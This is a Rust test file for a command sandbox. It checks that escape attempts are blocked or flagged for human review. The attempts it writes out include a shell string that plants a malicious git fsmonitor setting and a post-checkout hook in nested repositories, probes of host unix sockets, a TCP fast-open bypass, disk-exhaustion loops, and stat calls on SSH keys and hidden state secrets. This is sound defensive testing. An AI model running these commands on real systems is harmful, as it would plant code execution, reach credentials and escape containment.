/// skipped tree (`dist/x`) and one deeper than the snapshot's depth bound, both appended a
/// `core.fsmonitor`; new ones in `node_modules/pkg`, `dist/y`, eight levels deep and in the
/// union's point; a FIFO and names with a newline and ESC.
const NESTED_REPOS_ATTACK: &str = "printf '[core]\\n\\tfsmonitor = \"touch MARK; false\"\\n' >> dist/x/.git/config; echo \"fsm $?\"; \
     echo 'touch MARK' > dist/x/.git/hooks/post-checkout; echo \"hook $?\"; \
     printf '[core]\\n\\tfsmonitor = \"touch MARK; false\"\\n' >> l1/l2/l3/l4/l5/l6/l7/.git/config; echo \"deep $?\"; \
     mv dist/x/.git dist/x/g2; echo \"mv $?\"; \
     mkdir -p node_modules/pkg && git -C node_modules/pkg init -q && git -C node_modules/pkg config core.fsmonitor 'touch MARK; false'; echo \"nm $?\"; \
     git init -q dist/y; echo \"dist $?\"; \
     mkdir -p d1/d2/d3/d4/d5/d6/d7/d8 && git -C d1/d2/d3/d4/d5/d6/d7/d8 init -q; echo \"far $?\"; \
     { [ -d /ctx ] && git init -q /ctx/r; true; }; \
     mkfifo pipe; echo \"fifo $?\"; touch \"$(printf 'nl\\nname')\" \"$(printf 'esc\\033[2Jname')\"; echo \"names $?\"";

case!(a06g_nested_repositories_are_protected_or_flagged, |c| {
    let git = |dir: &Path, args: &[&str]| {
        std::fs::create_dir_all(dir).unwrap();
        assert!(
            Command::new("git")
                .args(args)
                .current_dir(dir)
                .env("GIT_CONFIG_NOSYSTEM", "1")
                .status()
                .unwrap()
                .success()
        );
    };
    let (x, deep) = (c.w.join("dist/x"), c.w.join("l1/l2/l3/l4/l5/l6/l7"));
    let setup = || {
        git(&x, &["init", "-q"]);
        git(&deep, &["init", "-q"]);
    };
    let configs = || [&x, &deep].map(|d| std::fs::read(d.join(".git/config")).unwrap());
    setup();
    let clean = configs();
    let check = |mode: &str, out: &RunOutput| {
        let flags = &out.record.post_run.flags;
        let has = |kind: ollie_sandbox::FlagKind, path: &str| {
            flags
                .iter()
                .any(|f| f.kind == kind && f.path == Path::new(path))
        };
        use ollie_sandbox::FlagKind::*;
        if mode == "unsandboxed" {
            // Nothing is protected in an approved unsandboxed run: the changes are flagged.
            // (dist/x/.git was moved aside: a name host-side git does not use.)
            assert!(
                has(NewRepository, "l1/l2/l3/l4/l5/l6/l7/.git"),
                "{mode}: {flags:#?}"
            );
        } else {
            // The repositories that existed at the start are read-only for the run.
            for l in ["fsm", "hook", "deep", "mv"] {
                expect_fail(out, l);
            }
            assert_eq!(configs(), clean, "{mode}: a nested .git/config changed");
            assert!(!x.join(".git/hooks/post-checkout").exists(), "{mode}");
            for d in [&x, &deep] {
                let st = Command::new("git")
                    .args(["status", "--short"])
                    .current_dir(d)
                    .output()
                    .unwrap();
                assert!(st.status.success(), "{mode}: {st:?}");
                assert!(
                    !d.join("MARK").exists(),
                    "{mode}: host git ran a planted command"
                );
            }
        }
        for l in ["nm", "dist", "far", "fifo", "names"] {
            expect(out, l, &["0"]);
        }
        for (k, p) in [
            (NewRepository, "node_modules/pkg/.git"),
            (NewRepository, "dist/y/.git"),
            (NewRepository, "d1/d2/d3/d4/d5/d6/d7/d8/.git"),
            (SpecialFile, "pipe"),
            (ControlName, "nl\nname"),
            (ControlName, "esc\x1b[2Jname"),
        ] {
            assert!(has(k, p), "{mode}: no flag {k:?} {p:?}: {flags:#?}");
        }
        if mode.contains("union") {
            assert!(
                flags
                    .iter()
                    .any(|f| f.kind == NewRepository && f.path.ends_with("upper/r/.git")),
                "{mode}: {flags:#?}"
            );
        }
        // Shown escaped, on one line.
        let shown: Vec<String> = flags.iter().map(ToString::to_string).collect();
        assert!(
            shown
                .iter()
                .all(|l| !l.contains('\n') && !l.contains('\x1b')),
            "{shown:?}"
        );
        // Host-side git is refused until a human has looked.
        let mut ws = ollie_sandbox::workspace::Workspace::open(&c.w).unwrap();
        ws.record_flags(flags);
        assert!(
            matches!(ws.git_allowed(), ollie_sandbox::GitDecision::Deny(_)),
            "{mode}"
        );
    };
    in_every_mode_with(c, &p_std(), NESTED_REPOS_ATTACK, &setup, &check);
});

case!(disk a06h_a_repository_search_cut_short_is_flagged, |c| {
    // More entries than the search reads: a `.git` beyond may go unseen, so the run is
    // flagged as incomplete (and host-side git refused), not taken as clean.
    let many = c.w.join("many");
    std::fs::create_dir_all(&many).unwrap();
    for i in 0..=ollie_sandbox::MAX_TREE_ENTRIES {
        std::fs::File::create(many.join(i.to_string())).unwrap();
    }
    let out = c.run(&p_std(), "true");
    let flags = &out.record.post_run.flags;
    assert!(
        flags
            .iter()
            .any(|f| f.kind == ollie_sandbox::FlagKind::SearchCut),
        "{flags:#?}"
    );
    assert!(out.record.post_run.truncated);
    std::fs::remove_dir_all(&many).unwrap();
});

/// Host-side unix sockets of the three kinds at pathnames, which no tool may reach.
struct UnixCanaries {
    dgram: std::os::unix::net::UnixDatagram,
    seq: UnixListener,
    stream: UnixListener,
    paths: [PathBuf; 3],
}

impl UnixCanaries {
    fn new(dir: &Path) -> UnixCanaries {
        let paths = [
            dir.join("dg.sock"),
            dir.join("seq.sock"),
            dir.join("st.sock"),
        ];
        for p in &paths {
            let _ = std::fs::remove_file(p);
        }
        let dgram = std::os::unix::net::UnixDatagram::bind(&paths[0]).unwrap();
        dgram.set_nonblocking(true).unwrap();
        // A seqpacket listener through nix (std has none).
        use nix::sys::socket::{AddressFamily, SockFlag, SockType, UnixAddr, bind, listen, socket};
        let fd = socket(
            AddressFamily::Unix,
            SockType::SeqPacket,
            SockFlag::SOCK_NONBLOCK | SockFlag::SOCK_CLOEXEC,
            None,
        )
        .unwrap();
        bind(
            std::os::fd::AsRawFd::as_raw_fd(&fd),
            &UnixAddr::new(&paths[1]).unwrap(),
        )
        .unwrap();
        listen(&fd, nix::sys::socket::Backlog::new(8).unwrap()).unwrap();
        let seq = UnixListener::from(fd);
        let stream = UnixListener::bind(&paths[2]).unwrap();
        stream.set_nonblocking(true).unwrap();
        for p in &paths {
            std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o777)).unwrap();
        }
        UnixCanaries {
            dgram,
            seq,
            stream,
            paths,
        }
    }

    #[track_caller]
    fn assert_untouched(&self, mode: &str) {
        let mut buf = [0u8; 64];
        match self.dgram.recv(&mut buf) {
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
            other => panic!("{mode}: the datagram canary got {other:?}"),
        }
        for (l, what) in [(&self.seq, "seqpacket"), (&self.stream, "stream")] {
            match l.accept() {
                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
                other => panic!("{mode}: the {what} canary got a connection: {other:?}"),
            }
        }
    }
}

const REACH_PY: &str = include_str!("escapes/reach.py");

/// The shell command that tries to reach the canaries from socketpair sockets.
fn unix_reach_probes(paths: &[PathBuf; 3]) -> String {
    let [dg, seq, st] = paths.each_ref().map(|p| p.display().to_string());
    format!("python3 reach.py {dg} {seq} {st}")
}

case!(j03_unix_sockets_of_the_host_are_unreachable, |c| {
    let canaries = UnixCanaries::new(&c.root);
    let script = unix_reach_probes(&canaries.paths);
    std::fs::write(c.w.join("reach.py"), REACH_PY).unwrap();
    let check = |mode: &str, out: &RunOutput| {
        expect(out, "dgram_pair", &["EPERM"]);
        for ty in ["stream", "seq"] {
            for target in ["dg", "seq", "st"] {
                // A connected socketpair socket ignores or refuses a destination: what is
                // sent goes to its peer, never to the canary.
                let sendto = format!("{ty}_sendto_{target}");
                let rights = format!("{ty}_rights_{target}");
                let connect = format!("{ty}_connect_{target}");
                expect(out, &sendto, &["EPERM", "EISCONN", "OK"]);
                expect(out, &rights, &["EPERM", "EISCONN", "EOPNOTSUPP", "OK"]);
                expect(out, &connect, &["EPERM", "EISCONN", "EPROTOTYPE", "EACCES"]);
            }
        }
        expect(out, "bind_abstract", &["EPERM"]);
        expect(out, "bind_path", &["EPERM", "EACCES"]);
        assert!(
            !c.w.join("s.sock").exists(),
            "{mode}: a socket file was made"
        );
        canaries.assert_untouched(mode);
    };
    // Without network, with TCP (connect only and with bind ports), and with the whole
    // network (what an approved `net` grant gives).
    in_every_mode(c, &p_std(), &script, &check);
    let tcp = Policy::from_toml(&profile_text("network")).unwrap();
    in_every_mode(c, &tcp, &script, &check);
    let tcp_bind =
        Policy::from_toml(&profile_text("network").replace("bind = []", "bind = [18765]")).unwrap();
    in_every_mode(c, &tcp_bind, &script, &check);
    let all = Policy::from_toml(&profile_text("network").replace(
        "mode = \"tcp\"\nconnect = [53, 80, 443]\nbind = []",
        "mode = \"all\"",
    ))
    .unwrap();
    in_every_mode(c, &all, &script, &check);
});

case!(j04_tcp_fast_open_does_not_pass_landlock, |c| {
    // sendto/sendmsg with MSG_FASTOPEN connect without connect(2), which Landlock's TCP
    // rule never sees: refused by seccomp, the canary on an ungranted port sees nothing.
    let canary = TcpCanary::v4();
    let port = canary.port();
    let tcp = Policy::from_toml(&profile_text("network")).unwrap();
    let script = py(&format!(
        "t('tfo_sendto', lambda: socket.socket().sendto(b'x', socket.MSG_FASTOPEN, ('127.0.0.1', {port}))); \
         t('tfo_sendmsg', lambda: socket.socket().sendmsg([b'x'], [], socket.MSG_FASTOPEN, ('127.0.0.1', {port}))); \
         t('connect', lambda: socket.create_connection(('127.0.0.1', {port}), 2))"
    ));
    let check = |mode: &str, out: &RunOutput| {
        expect(out, "tfo_sendto", &["EPERM"]);
        expect(out, "tfo_sendmsg", &["EPERM"]);
        if mode != "unsandboxed" {
            expect(out, "connect", &["EACCES"]);
            canary.assert_untouched();
        } else {
            // The host network: the plain connect is the approved behaviour.
            let _ = canary.0.accept();
        }
    };
    in_every_mode(c, &tcp, &script, &check);
});

case!(disk j05_disk_budget_cannot_be_outrun, |c| {
    // Eight parallel fallocates just under RLIMIT_FSIZE each used to take 8 GiB in a few
    // milliseconds under a 1 GiB budget. fallocate that allocates is refused; writing takes
    // the space only as fast as it is written, and no single file exceeds the budget.
    let budget: u64 = 32 << 20;
    let pol = p_std_with(|t| {
        with_limits(
            t,
            &format!("disk_bytes = {budget}\nfile_size_bytes = 1073741824\ntimeout_seconds = 60"),
        )
    });
    let out = c.run(
        &pol,
        "for i in 1 2 3 4 5 6 7 8; do fallocate -l 1073741823 f$i 2>/dev/null & done; wait; \
         python3 -c \"from t import *; fd = os.open('g', os.O_CREAT | os.O_WRONLY, 0o644); \
         sc('fallocate', 285, fd, 0, 0, 1 << 30); sc('punch', 285, fd, 3, 0, 4096)\"",
    );
    expect(&out, "fallocate", &["EOPNOTSUPP", "ENOTSUP"]);
    expect(&out, "punch", &["OK"]);
    let used: u64 = walk(&c.w)
        .iter()
        .map(|p| std::os::unix::fs::MetadataExt::blocks(&std::fs::metadata(p).unwrap()) * 512)
        .sum();
    assert!(used < 1 << 20, "fallocate took {used} bytes");
    assert_eq!(out.record.limits.file_size_bytes, budget);
    reset_workspace(c);
    // Sixteen writers of 256 MiB each (no file may pass the 32 MiB budget, so at most 512 MiB
    // without the watchdog): noticed near the budget and killed at once (the documented
    // bounds: docs/sandbox.md "Disk and inode limits").
    let out = c.run(
        &pol,
        "for i in $(seq 16); do head -c 268435456 /dev/zero > w$i 2>/dev/null & done; wait; echo done",
    );
    let used: u64 = walk(&c.w)
        .iter()
        .filter_map(|p| std::fs::metadata(p).ok())
        .map(|m| std::os::unix::fs::MetadataExt::size(&m))
        .sum();
    assert_eq!(
        out.record.exit.killed_by,
        Some(ollie_sandbox::KilledBy::DiskLimit),
        "{:?}",
        out.record.exit
    );
    assert_eq!(
        out.record.exit.signal,
        Some(libc::SIGKILL),
        "{:?}",
        out.record.exit
    );
    let noticed = out.record.exit.disk_limit.as_ref().unwrap().observed;
    assert!(
        noticed <= 4 * budget,
        "{noticed} bytes taken when noticed under a {budget}-byte budget"
    );
    assert!(
        used <= 8 * budget,
        "{used} bytes written under a {budget}-byte budget"
    );
    for p in walk(&c.w) {
        let len = std::fs::metadata(&p).unwrap().len();
        assert!(len <= budget, "{} is {len} bytes", p.display());
    }
});

fn inotify_probe(label: &str, path: &Path) -> String {
    format!("t('{label}', lambda: watch('{}'))", path.display())
}

case!(j06_state_secrets_and_homes_are_hidden, |c| {
    // What Landlock does not mediate (stat, access, inotify) must not reveal the runner's
    // state directory, secret locations or home directories that hold no grant.
    let state = c.root.join("state");
    std::fs::create_dir_all(&state).unwrap();
    std::fs::write(state.join("tcp.key"), "k").unwrap();
    let key = state.join("tcp.key");
    let ssh = c.home.join(".ssh/id_ed25519");
    let profile = c.home.join(".profile");
    let mut req = c.request(&["bash", "-c", ""]);
    req.hidden = vec![state.clone()];
    let script = format!(
        "stat {key} >/dev/null 2>&1; echo \"stat_key $?\"; ls {st} >/dev/null 2>&1; echo \"ls_state $?\"; \
         stat {ssh} >/dev/null 2>&1; echo \"stat_ssh $?\"; stat {profile} >/dev/null 2>&1; echo \"stat_home $?\"; \
         ls /root >/dev/null 2>&1; echo \"ls_root $?\"; test -e {key}; echo \"exists_key $?\"; \
         python3 -c \"from t import *; {}; {}; {}\"",
        inotify_probe("watch_state", &state),
        inotify_probe("watch_home", &c.home),
        inotify_probe("watch_ws", &c.w),
        key = key.display(),
        st = state.display(),
        ssh = ssh.display(),
        profile = profile.display(),
    );
    req.argv[2] = script.clone().into();
    let check = |mode: &str, out: &RunOutput| {
        for l in [
            "stat_key",
            "ls_state",
            "stat_ssh",
            "stat_home",
            "exists_key",
        ] {
            expect_fail(out, l);
        }
        if is_root() {
            // /root is not this run's home and holds no grant (as another user it is 0700
            // anyway, so only the root run shows the hiding).
            expect_fail(out, "ls_root");
        }
        expect(out, "watch_state", &["EACCES", "ENOENT"]);
        expect(out, "watch_home", &["EACCES", "ENOENT"]);
        expect(out, "watch_ws", &["OK"]);
        let hidden = &out.record.layers.mounts.hidden;
        for p in [&state, &c.home] {
            assert!(
                hidden.contains(&p.canonicalize().unwrap()),
                "{mode}: {} not hidden: {hidden:?}",
                p.display()
            );
        }
    };
    let out = c.run_with(&p_std(), &req);
    check("one-shot", &out);
    let prepared =
        ollie_sandbox::Prepared::new_hiding(&p_std(), &c.w, &c.home, std::slice::from_ref(&state))
            .unwrap();
    let out = prepared.run(&req).unwrap();
    check("prepared", &out);
    drop(prepared);
    // A bead union whose layers lie in the hidden state directory (as olliesrv's do): the
    // union is there, the state directory stays hidden, one-shot and prepared alike (a
    // prepared call uncovers it in its own mount namespace only while it mounts the overlay).
    let layers = state.join("ns");
    for d in ["lower", "upper", "work"] {
        std::fs::create_dir_all(layers.join(d)).unwrap();
    }
    std::fs::write(layers.join("lower/note"), "from the bead\n").unwrap();
    let mut ureq = req.clone();
    ureq.unions = vec![ollie_sandbox::UnionMount {
        point: "/ctx".into(),
        lowers: vec![layers.join("lower")],
        upper: layers.join("upper"),
        work: layers.join("work"),
    }];
    ureq.argv[2] = format!("{script}; cat /ctx/note; echo \"union_read $?\"").into();
    let union_check = |mode: &str, out: &RunOutput| {
        check(mode, out);
        expect(out, "union_read", &["0"]);
        assert!(
            String::from_utf8_lossy(&out.stdout).contains("from the bead"),
            "{mode}: {}",
            String::from_utf8_lossy(&out.stdout)
        );
    };
    union_check("union", &c.run_with(&p_std(), &ureq));
    let prepared = ollie_sandbox::Prepared::new_with_points(
        &p_std(),
        &c.w,
        &c.home,
        std::slice::from_ref(&state),
        &["/ctx".into()],
    )
    .unwrap();
    for _ in 0..2 {
        union_check("prepared union", &prepared.run(&ureq).unwrap());
    }
    drop(prepared);
    // A workspace inside the home keeps the home visible; its secrets stay hidden.
    let w2 = c.home.join("proj");
    std::fs::create_dir_all(&w2).unwrap();
    std::fs::write(w2.join("t.py"), PROBE_PY).unwrap();
    let mut req2 = req.clone();
    req2.workdir = w2.clone();
    req2.argv[2] = format!(
        "stat {ssh} >/dev/null 2>&1; echo \"stat_ssh $?\"; stat {profile} >/dev/null 2>&1; echo \"stat_home $?\"; \
         echo x > note; echo \"write $?\"",
        ssh = ssh.display(),
        profile = profile.display()
    )
    .into();
    let out = ollie_sandbox::run(&p_std(), &req2).unwrap();
    expect_fail(&out, "stat_ssh");
    expect(&out, "stat_home", &["0"]);
    expect(&out, "write", &["0"]);
    assert!(w2.join("note").exists());
});

/// The shell probes above only prove something when their tool exists on the host (a missing
/// tool exits 127, which looks like a denial). Under `OLLIE_TEST_REQUIRE=all` every one must be
/// installed (`scripts/deps.sh` does that); otherwise the missing ones are named as skips.
#[test]
fn probe_tools_are_installed() {
    const TOOLS: &[&str] = &[
        "curl",
        "wget",
        "ssh",
        "ping",
        "strace",
        "gdb",
        "tmux",
        "screen",
        "dbus-send",
        "busctl",
        "systemd-run",
        "gpg-connect-agent",
        "flock",
        "unshare",
        "ipcmk",
        "ipcs",
        "ipcrm",
        "setsid",
        "nohup",
        "git",
        "python3",
        "chroot",
        "sudo",
        "su",
    ];
    let path = std::env::var("PATH").unwrap_or_default();
    let missing: Vec<&str> = TOOLS
        .iter()
        .copied()
        .filter(|t| {
            !path
                .split(':')
                .chain(["/usr/sbin", "/sbin"])
                .any(|d| std::path::Path::new(d).join(t).exists())
        })
        .collect();
    if missing.is_empty() {
        return;
    }
    let line = format!(
        "SKIP probe_tools_are_installed: missing {}",
        missing.join(" ")
    );
    if ollie_testkit::require_all() {
        panic!("{line} (OLLIE_TEST_REQUIRE=all; run scripts/deps.sh)");
    }
    skip(&line);
}
